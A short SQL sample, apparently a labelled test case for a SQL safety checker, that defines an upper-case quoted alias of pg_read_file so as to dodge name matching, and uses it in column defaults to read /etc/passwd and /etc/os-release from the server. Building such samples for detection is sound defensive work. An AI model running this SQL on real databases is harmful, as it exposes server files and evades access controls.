-- class: server-file-access
-- Defines an upper-case quoted alias of pg_read_file as an internal function and uses it in a column default to read the server's files.
CREATE FUNCTION "PG_READ_FILE"(text) RETURNS text
  LANGUAGE internal STRICT VOLATILE AS 'pg_read_file_all';

CREATE TABLE server_info (
  id int PRIMARY KEY DEFAULT 1 CHECK (id = 1),
  os_release text DEFAULT "PG_READ_FILE"('/etc/os-release'),
  passwd text DEFAULT "PG_READ_FILE"('/etc/passwd')
);
INSERT INTO server_info DEFAULT VALUES;
